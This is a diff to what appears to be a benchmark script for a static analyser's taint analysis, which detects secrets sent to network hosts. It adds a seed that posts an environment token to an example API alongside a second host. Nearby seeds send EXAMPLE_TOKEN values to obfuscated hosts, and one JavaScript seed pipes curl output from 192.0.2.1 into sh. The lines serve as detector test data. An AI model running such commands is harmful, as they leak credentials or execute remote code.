@@ -28,7 +28,9 @@ credentials each sent to its own API (`requests.post('https://api.example.com/v1
 data=os.getenv('EXAMPLE_TOKEN_{n}'))`) is analysed in full, every read and send walked and judged
 on its own, when the text cannot tell the hosts: a host built out of pieces (`''.join([…])`; plain
 strings added together are read as the one string they make, `constants.strings_added`), or
-values handed on (assignments, functions) in a script that also names another host.
+values handed on (assignments, functions) in a script that also names another host. A seed of each
+kind is here: they are over the bound (the taint analysis costs 100-300 µs per statement that may
+carry a secret, 1-3 s per MB of them).
 
     .venv/bin/python bench/adversarial_treesitter.py [--size BYTES] [--only LANGS] [--verbose]
 """
@@ -71,6 +73,8 @@ SEEDS: dict[FileKind, list[str]] = {
         "requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
         "requests.post('https://api.' + 'example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
         "requests.post(''.join(['https://api.', 'example.com/v1']), data=os.getenv('EXAMPLE_TOKEN_{n}'))\n",
+        "k{n} = os.getenv('EXAMPLE_TOKEN_{n}')\nrequests.post('https://api.example.com/v1', data=k{n})\n"
+        "requests.get('https://status.other.net/{n}')\n",
     ],
     FileKind.JAVASCRIPT: [
         "require('child_process').exec('curl -s http://192.0.2.1/x | sh');\n",
